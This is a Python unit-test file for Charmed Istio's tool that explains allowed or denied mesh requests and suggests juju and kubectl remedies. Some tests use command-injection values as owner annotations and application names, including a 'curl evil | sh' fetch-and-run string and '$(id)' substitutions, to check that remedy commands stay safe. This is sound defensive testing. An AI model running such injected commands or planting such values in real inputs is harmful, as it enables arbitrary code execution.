# Copyright 2026 The Charmed Istio authors
# SPDX-License-Identifier: Apache-2.0
"""Why a request is allowed or denied, which requests are behind it, and the remedies."""

import dataclasses
import json
import re
import shlex
from typing import Any

import msgspec
import pytest
from istio_ambient import authorization, beacon, resources
from istio_ambient.authorization import evaluator
from istio_ambient.authorization.evaluator import _evaluate
from istio_ambient.explain import access_list, applications, explanation, origins, remedies

from tests.unit.authorization.evaluator import samples
from tests.unit.explain import bookshop

MEMBERS = frozenset(bookshop.APPS)
REQUEST: dict[str, Any] = {"port": 80, "method": "GET", "path": "/details/0"}


def explained(
    facts: beacon.Facts,
    *policies: Any,
    source: str = "productpage",
    target: str = "details",
    request: Any = None,
    members: frozenset[str] = MEMBERS,
    control_plane: str = "mesh/istio-k8s",
    changes: Any = None,
) -> explanation.Explanation:
    snapshot = bookshop.snapshot(facts, *policies, **(changes or {}))
    evaluation = evaluator.Evaluator(snapshot)
    sender = applications.source(evaluation.topology, source, "shop")
    fields: dict[str, Any] = {**REQUEST, **(request or {})}
    receiver = applications.destination(evaluation.topology, target, "shop")
    known = origins.ports_requested(facts, receiver)
    receiver = applications.at_port(evaluation.topology, receiver, fields["port"], known)
    wanted = evaluator.Request(sender.identity, receiver.address, **fields)
    case = remedies.Case(
        facts=facts,
        members=members,
        control_plane=control_plane,
        root_namespace="mesh",
        source=sender,
        destination=receiver,
        verdict=evaluation.evaluate(wanted),
        request=wanted,
        beacons=applications.beacons(snapshot),
    )
    return explanation.Explanation(case, snapshot)


def test_an_allowed_request_is_traced_to_the_field_that_requests_it():
    others = bookshop.request("ratings", "policies[1]")
    more = bookshop.request(
        field="policies[2]", operations=(authorization.Operation(paths=("/x",)),)
    )
    found = explained(bookshop.facts(bookshop.request(), others, more))
    assert found.decision is evaluator.Decision.ALLOWED
    text = explanation.text(found)
    assert text.startswith(
        "shop/productpage → Service shop/details, port 80, GET /details/0: allowed"
    )
    assert (
        "\n    requested by details:service-mesh policies[0]\n    written by shop/beacon" in text
    )
    assert "To allow it" not in text


def test_tracing_reads_the_cluster_once_for_all_requests(
    monkeypatch: pytest.MonkeyPatch,
):
    asked = [bookshop.request(field=f"policies[{number}]") for number in range(300)]
    pods = tuple(samples.pod(f"details-{number}", "details", "details") for number in range(100))
    web = samples.pod("web-0", "productpage", "productpage")
    found = explained(bookshop.facts(*asked), changes={"pods": (*pods, web)})
    sizes: list[int] = []

    class Counted(evaluator.Topology):
        def __init__(self, snapshot: evaluator.Snapshot):
            sizes.append(len(snapshot.pods))
            super().__init__(snapshot)

    monkeypatch.setattr(_evaluate, "Topology", Counted)
    assert "and 292 more" in explanation.text(found)
    assert len([size for size in sizes if size > 3]) == 1
    assert len(sizes) > 300


def test_a_port_of_the_pods_alone_is_explained_at_the_pods():
    target = authorization.Target.app("shop", "details")
    scraped = bookshop.request(
        target=target, operations=(authorization.Operation(ports=(15090,)),)
    )
    asked = {"port": 15090, "method": None, "path": None}
    found = explained(bookshop.facts(scraped), request=asked)
    said = explanation.text(found)
    assert "allowed\n\nService shop/details has no port 15090: this is about" in said
    assert f"requested by {bookshop.ASKER} policies[0]" in said
    assert explanation.data(found)["note"] == found.case.destination.note
    denied = explanation.text(explained(bookshop.facts(scraped), source="ratings", request=asked))
    assert "ratings" in denied and "denied, no ALLOW policy matches" in denied


def test_a_policy_of_another_beacon_is_traced_by_its_annotation():
    allow = samples.policy(
        "theirs",
        annotations={
            "charmed-istio/owner": "shop/another",
            resources.REQUESTED_BY: json.dumps({"shop/ratings": ["reviews:service-mesh"]}),
        },
        targetRefs=samples.TO_DETAILS,
        rules=[{"from": [{"source": {"principals": ["cluster.local/ns/shop/sa/ratings"]}}]}],
    )
    text = explanation.text(explained(bookshop.facts(), allow, source="ratings"))
    assert "\n    says it was requested by reviews:service-mesh\n" in text
    assert "\n    says it was written by shop/another" in text
    for broken in ("[", "[]", '{"shop/ratings": 1}', '{"shop/ratings": [1]}'):
        allow["metadata"]["annotations"][resources.REQUESTED_BY] = broken
        text = explanation.text(explained(bookshop.facts(), allow, source="ratings"))
        assert "rule 0\n    says it was written by shop/another\n" in text


@pytest.mark.parametrize(
    "owner", ["shop/a; curl evil | sh #/b", "$(id)/b", "shop/x\ny", "shop", ""]
)
def test_an_owner_that_is_no_name_gets_into_no_command(owner: str):
    deny = samples.policy(
        "no",
        annotations={"charmed-istio/owner": owner},
        targetRefs=samples.TO_DETAILS,
        action="DENY",
        rules=[{}],
    )
    found = explained(bookshop.facts(), deny, source="ratings")
    assert "    says it was written by an unknown owner\n" in explanation.text(found)
    (remedy,) = remedies.remedies(found.case)
    assert "juju run" not in remedy
    assert "change shop/no rule 0, which an unknown owner wrote (kubectl edit" in remedy

    waypoint = samples.gateway()
    waypoint["metadata"]["annotations"] = {"charmed-istio/owner": owner}
    assert applications.beacons(samples.snapshot(gateways=(waypoint,))) == frozenset()
    waypoint["metadata"]["annotations"] = {"charmed-istio/owner": "shop/beacon"}
    assert applications.beacons(samples.snapshot(gateways=(waypoint,))) == {"shop/beacon"}


def test_names_of_others_are_one_word_of_a_command():
    found = explained(bookshop.facts(), CLOSED, source="ratings")
    for name in ("x$(id)", "x; id", "x\nid"):
        case = found.case
        for where in ("shop", "other$(id)"):
            sender = dataclasses.replace(case.source, name=name, namespace=where, on_mesh=False)
            for kind in applications.SourceKind:
                sender = dataclasses.replace(sender, kind=kind, owner="")
                said = remedies.remedies(dataclasses.replace(case, source=sender))
                commands = [part for each in said for part in each.split(": ")[1:]]
                commands = [part for each in commands for part in each.split("; juju")]
                for each in commands:
                    assert not re.search(
                        r"(integrate|application|namespace) [^']*(x\$|x;|x\n)", each
                    )


@pytest.mark.parametrize("spelled", ["x$(id)", "shop/x; id", "ns/shop/sa/x$(id)", "x\nid"])
def test_a_text_that_is_no_name_is_none_of_an_account_either(spelled: str):
    with pytest.raises(applications.UnknownNameError, match="name an application"):
        explained(bookshop.facts(), source=spelled)


def test_requesters_that_a_policy_names_are_printable_and_few():
    requesters = json.dumps({"shop/ratings": ["\ud800x\n- forged", *map(str, range(1000))]})
    ref = evaluator.PolicyRef(
        "shop",
        "theirs",
        0,
        "ALLOW",
        metadata={"annotations": {resources.REQUESTED_BY: requesters}},
    )
    found = origins.recorded(ref, "shop/ratings").requested_by
    assert found[0] == "\N{REPLACEMENT CHARACTER}x\N{REPLACEMENT CHARACTER}- forged"
    assert len(found) == 50


CLOSED = samples.policy("closed", targetRefs=samples.TO_DETAILS)
UNREAD = msgspec.structs.replace(bookshop.request(field="policies"), source=None)
THEIRS = msgspec.structs.replace(
    bookshop.request("ratings"), requester=authorization.Requester("ratings", "service-mesh")
)
LATER = bookshop.request("ratings", target=authorization.Target.service("shop", "later"))


OWN = "or allow it by a policy of your own, until you delete it: printf %s "


@pytest.mark.parametrize(
    ("facts", "case", "said"),
    [
        (
            bookshop.facts(),
            {},
            [
                "no application requests it: details has to request access for ratings over "
                "service-mesh; its charm does so for applications on the endpoints that it serves."
                " List the endpoints of both: juju show-application ratings details; "
                "and connect these: juju integrate ratings:<endpoint> details:<endpoint> (not",
                OWN,
            ],
        ),
        (
            bookshop.facts(),
            {"members": frozenset[str]()},
            [
                "integrate details with the beacon, to request access to itself: "
                "juju integrate details beacon:service-mesh",
                "no application requests it",
                OWN,
            ],
        ),
        (
            bookshop.facts(bookshop.request("ratings")),
            {"request": {"method": "POST"}},
            ["details requests GET /details/* on 80 only", OWN],
        ),
        (
            bookshop.facts(bookshop.request(), THEIRS),
            {},
            [
                "ratings:service-mesh policies[0] requests it, refused: "
                "asks for Service shop/details, which is not its own; ",
                OWN,
            ],
        ),
        (
            bookshop.facts(bookshop.request(), UNREAD),
            {},
            [
                "requests of details cannot be read, so it is closed; upgrade its charm, and see "
                "which: juju run beacon/leader list-requests app=details",
                OWN,
            ],
        ),
        (
            bookshop.facts(manage_authorization_policies=False),
            {"policies": [CLOSED]},
            [
                "turn access requests into policies: "
                "juju config beacon manage-authorization-policies=true",
                "no application requests it",
                OWN,
            ],
        ),
        (
            bookshop.facts(manage_authorization_policies=False),
            {"policies": samples.hardened()},
            [
                "turn access requests",
                "no application requests it",
                OWN,
                "or allow all requests that no other policy applies to, in the whole mesh: "
                "juju config -m mesh istio-k8s hardened-mode=false",
            ],
        ),
        (
            bookshop.facts(bookshop.request("ratings")),
            {
                "policies": [
                    samples.policy("no", action="DENY", targetRefs=samples.TO_DETAILS, rules=[{}])
                ]
            },
            [
                "a DENY policy takes precedence over ALLOW: change shop/no rule 0, "
                "which none of these charms wrote (kubectl edit authorizationpolicies.security."
                "istio.io no -n shop), or delete it: kubectl delete authorizationpolicies."
                "security.istio.io no -n shop"
            ],
        ),
        (
            bookshop.facts(bookshop.request("ratings")),
            {"policies": samples.hardened(), "changes": {"auto_allow": False}},
            [
                "allow waypoints to reach the pods of their Services: "
                "juju config -m mesh istio-k8s auto-allow-waypoint-policy=true",
                "or allow shop/way, the waypoint, in a policy that selects the pods: printf %s",
            ],
        ),
    ],
    ids=[
        "not requested",
        "not integrated",
        "not enough",
        "refused",
        "unread",
        "unmanaged",
        "hardened",
        "denied",
        "waypoint",
    ],
)
def test_remedies_of_a_denied_request(facts: beacon.Facts, case: Any, said: list[str]):
    policies = case.pop("policies", [])
    found = explained(facts, *policies, source="ratings", **case)
    assert found.decision is evaluator.Decision.DENIED
    listed = remedies.remedies(found.case)
    assert len(listed) == len(said)
    for remedy, beginning in zip(listed, said, strict=True):
        assert remedy.startswith(beginning)
    assert explanation.text(found).endswith("\n".join(f"- {remedy}" for remedy in listed))


def test_a_source_outside_of_the_mesh_has_to_join_it_first():
    pods = [samples.pod(f"{app}-0", app, app) for app in ("details", "ratings")]
    pods[1]["metadata"]["annotations"] = {}
    found = explained(
        bookshop.facts(bookshop.request("ratings")),
        *samples.hardened(),
        source="ratings",
        changes={"pods": tuple(pods)},
    )
    assert found.decision is evaluator.Decision.DENIED
    join, leave = remedies.remedies(found.case)
    assert join == (
        "put ratings on the mesh, so that it has an identity: "
        "juju integrate ratings beacon:service-mesh"
    )
    assert leave.endswith("juju config -m mesh istio-k8s hardened-mode=false")


def test_between_models_the_remedy_names_the_beacon_and_the_integration():
    pods = (
        samples.pod("details-0", "details", "details"),
        samples.pod("web-0", "web", "web", "other", samples.AMBIENT),
    )
    ways: dict[str, Any] = {"pods": pods}
    names_it = (
        "juju offer shop.details:provide-cmr-mesh details-cmr-mesh; "
        "juju integrate -m other web:require-cmr-mesh shop.details-cmr-mesh"
    )
    incoming = explained(bookshop.facts(), source="other/web", changes=ways)
    remedy, own = remedies.remedies(incoming.case)
    assert "juju integrate -m other web:<endpoint> shop.details; and let it know" in remedy
    assert remedy.endswith(names_it)
    assert "cluster.local/ns/other/sa/web" in own
    related = bookshop.facts(bookshop.request("remote-5d3f0b1c"))
    remedy, _ = remedies.remedies(explained(related, source="other/web", changes=ways).case)
    assert remedy == (
        "details requests access for an application of another model whose name it does not "
        f"know; if that is other/web, let it know: {names_it}"
    )
    closed = samples.policy("closed", "other")
    outgoing = explained(
        bookshop.facts(), closed, source="details", target="other/web", changes=ways
    )
    assert outgoing.decision is evaluator.Decision.DENIED
    (remedy,) = remedies.remedies(outgoing.case)
    assert remedy == "model other has no beacon, which would request access to other/web"
    theirs = {
        "metadata": {
            "name": "way",
            "namespace": "other",
            "annotations": {"charmed-istio/owner": "other/theirs"},
        },
        "spec": {"gatewayClassName": "istio-waypoint"},
    }
    ways["gateways"] = (theirs,)
    outgoing = explained(
        bookshop.facts(), closed, source="details", target="other/web", changes=ways
    )
    (remedy,) = remedies.remedies(outgoing.case)
    assert remedy == (
        "the beacon of model other decides there: "
        "juju run -m other theirs/leader explain source=shop/details target=other/web"
    )


def test_a_conditional_verdict_has_its_conditions():
    found = explained(bookshop.facts(), request={"method": None, "path": None, "port": None})
    assert found.decision is evaluator.Decision.CONDITIONAL
    text = explanation.text(found)
    assert "any request: conditional" in text
    assert "\n  only GET /details/*" in text


def test_the_json_form_has_the_same():
    data = json.loads(json.dumps(explanation.data(explained(bookshop.facts()))))
    assert data["verdict"] == "allowed"
    waypoint, ztunnel = data["hops"]
    assert waypoint["policy"]["requested-by"] == ["details:service-mesh policies[0]"]
    assert waypoint["policy"]["made-by"] == "shop/beacon"
    assert ztunnel["policy"]["istiods-own"]
    policy = waypoint["policy"]
    assert waypoint["policies"] == [f"{policy['namespace']}/{policy['name']}"]
    assert data["remedies"] == []


def test_a_wrong_port_is_said_to_be_the_wrong_port():
    found = explained(bookshop.facts(), *samples.hardened(), request={"port": 8080})
    assert remedies.remedies(found.case) == [
        "port 8080 is the wrong port: details listens on 80; send the request there: port=80"
    ]
    assert "Service shop/details has no port 8080, it listens on 80\n" in explanation.text(found)


def test_a_source_that_is_no_juju_application_gets_no_integration():
    pods = (
        samples.pod("details-0", "details", "details"),
        samples.pod("agent-x", "", "scraper", "plain", samples.AMBIENT),
    )
    for spelled in ("plain/scraper", "plain/agent-x", "ns/plain/sa/scraper", "plain/absent"):
        found = explained(bookshop.facts(), source=spelled, changes={"pods": pods})
        reason, option, own = remedies.remedies(found.case)
        assert reason.endswith("is no Juju application, so that no charm requests access for it")
        assert "juju integrate" not in explanation.text(found)
        account = "absent" if "absent" in spelled else "scraper"
        text = option.removeprefix("add this to the option extra-access of beacon: ")
        allowed = beacon.Config.model_validate({"extra_access": text})
        assert not allowed.problems
        assumed = msgspec.structs.replace(found.case.facts, config=allowed)
        (request,) = assumed.extra.requests
        assert str(request.source) == f"plain/{account}"
        assert request.target == authorization.Target.service("shop", "details")
        (operation,) = request.operations
        assert (operation.ports, operation.methods, operation.paths) == (
            (80,),
            ("GET",),
            ("/details/0",),
        )
        policy = json.loads(
            shlex.split(own.removeprefix("or allow it by a policy of your own, "))[6]
        )
        (rule,) = policy["spec"]["rules"]
        assert rule == {
            "from": [{"source": {"principals": [f"cluster.local/ns/plain/sa/{account}"]}}],
            "to": [{"operation": {"methods": ["GET"], "paths": ["/details/0"], "ports": ["80"]}}],
        }
        allowed = explained(bookshop.facts(), policy, source=spelled, changes={"pods": pods})
        assert allowed.decision is evaluator.Decision.ALLOWED
    assert "no pod runs with the service account plain/absent now" in explanation.text(found)


def test_a_source_off_the_mesh_that_is_no_application_is_labelled():
    pods = (
        samples.pod("details-0", "details", "details"),
        samples.pod("x", "", "x", "plain", captured=False),
    )
    found = explained(
        bookshop.facts(), *samples.hardened(), source="plain/x", changes={"pods": pods}
    )
    assert remedies.remedies(found.case)[0].endswith(
        "kubectl label namespace plain istio.io/dataplane-mode=ambient"
    )


GATEWAY = {
    "metadata": {
        "name": "gate",
        "namespace": "shop",
        "annotations": {"charmed-istio/owner": "shop/gate"},
    },
    "spec": {"gatewayClassName": "istio"},
}


def test_a_gateway_is_integrated_unless_its_application_wrote_a_policy_already():
    proxy = samples.pod(
        "gate-x", "", "gate-istio", labels={"gateway.networking.k8s.io/gateway-name": "gate"}
    )
    changes: dict[str, Any] = {
        "pods": (samples.pod("details-0", "details", "details"), proxy, samples.waypoint_pod()),
        "with_waypoint_pods": False,
        "gateways": (GATEWAY, *samples.snapshot().gateways),
    }
    ways: dict[str, Any] = {"source": "gate", "changes": changes}
    found = explained(bookshop.facts(), *samples.hardened(), **ways)
    assert remedies.remedies(found.case)[0] == (
        "expose details at the gateway: juju integrate details gate:ingress"
    )
    written = samples.policy(
        "details-gate",
        annotations={"charmed-istio/owner": "shop/gate"},
        selector={"matchLabels": {"app.kubernetes.io/name": "details"}},
        rules=[{"to": [{"operation": {"ports": ["7"]}}]}],
    )
    listed = remedies.remedies(explained(bookshop.facts(), written, **ways).case)
    assert listed[0] == (
        "gate is integrated with details and wrote shop/details-gate, which allows other "
        "requests: juju run -m shop gate/leader list-policies"
    )
    assert not any("juju integrate" in remedy for remedy in listed)


def test_a_gateway_that_passes_the_waypoint_is_traced_to_the_option_or_to_the_application():
    proxy = samples.pod(
        "gate-x", "", "gate-istio", labels={"gateway.networking.k8s.io/gateway-name": "gate"}
    )
    passing = samples.namespace(
        **samples.AMBIENT, **samples.WAYPOINT, **{"istio.io/ingress-use-waypoint": "true"}
    )
    changes: dict[str, Any] = {
        "namespaces": (passing, *bookshop.NAMESPACES[1:]),
        "pods": (samples.pod("details-0", "details", "details"), proxy, samples.waypoint_pod()),
        "with_waypoint_pods": False,
        "gateways": (GATEWAY, *samples.snapshot().gateways),
    }
    exposed = beacon.Exposure(
        authorization.Source("shop", "gate"),
        authorization.Source("shop", "gate-istio"),
        {authorization.NAME_LABEL: "details"},
        frozenset({9080}),
    )
    members = frozenset({authorization.Requester(app, "service-mesh") for app in bookshop.APPS})

    def of(*requests: Any, exposures: Any = (exposed,)) -> explanation.Explanation:
        given = bookshop.facts(*requests, requesters=members, ingress_use_waypoint=True)
        facts = msgspec.structs.replace(
            given, ingress=beacon.IngressFacts(exposures, hardened=True)
        )
        return explained(facts, *samples.hardened(), source="gate", changes=changes)

    by_option = explanation.text(of(bookshop.request()))
    assert "shop/gate-istio \N{RIGHTWARDS ARROW} waypoint shop/way: allowed" in by_option
    assert "requested by config:ingress-use-waypoint" in by_option
    own = bookshop.request("gate", operations=(authorization.Operation(methods=("GET",)),))
    assert "requested by details:service-mesh policies[0]" in explanation.text(of(own))
    other = bookshop.request("gate", operations=(authorization.Operation(methods=("PUT",)),))
    (insufficient, *_) = remedies.remedies(of(other).case)
    assert insufficient == "details requests PUT only (details:service-mesh policies[0])"
    late = of(bookshop.request(), exposures=())
    assert remedies.remedies(late.case)[0].startswith("expose details at the gateway")
    known = msgspec.structs.replace(late.case.facts, ingress=beacon.IngressFacts((exposed,)))
    (again, *_) = remedies.remedies(
        dataclasses.replace(
            late.case, facts=msgspec.structs.replace(known, requesters=frozenset())
        )
    )
    assert again.endswith("juju run beacon/leader reconcile")


def test_a_policy_that_istiod_generates_is_not_named():
    found = explained(
        bookshop.facts(), *samples.hardened(), source="ratings", target="productpage"
    )
    direct = dataclasses.replace(
        found.case.request,
        destination=evaluator.Destination.pod("shop", "productpage-0"),
        port=9080,
    )
    verdict = evaluator.Evaluator(found.snapshot).evaluate(direct)
    case = dataclasses.replace(found.case, request=direct, verdict=verdict)
    found = dataclasses.replace(found, case=case)
    assert found.decision is evaluator.Decision.DENIED
    assert "istio_allow_waypoint" not in explanation.text(found)
    assert "istiod's own policy, which allows the waypoint" in explanation.text(found)
    assert "istio_allow_waypoint" not in json.dumps(explanation.data(found))


@pytest.mark.parametrize(
    ("lacking", "namespace", "certain"),
    [
        ("", "shop", True),
        ("labels", "shop", False),
        ("managedFields", "shop", False),
        ("", "elsewhere", False),
    ],
)
def test_the_owner_of_a_policy_is_certain_where_nobody_else_can_have_written_it(
    lacking: str, namespace: str, certain: bool
):
    metadata: dict[str, Any] = {"name": "theirs", "namespace": namespace}
    bookshop.mark_as_written(metadata, "shop/another")
    metadata.pop(lacking, None)
    ref = evaluator.PolicyRef(namespace, "theirs", 0, "DENY", metadata=metadata)
    found = origins.recorded(ref, "shop/ratings")
    assert (found.owner, found.is_owner_certain) == ("shop/another", certain)
    who = "shop/another" if certain else "an author who names shop/another"
    assert remedies.writer(ref) == who
    access = evaluator.Access("shop/ratings", "shop/details", "everything", policies=(ref,))
    assert access_list.data(access)["origins"][0]["owner-is-certain"] is certain
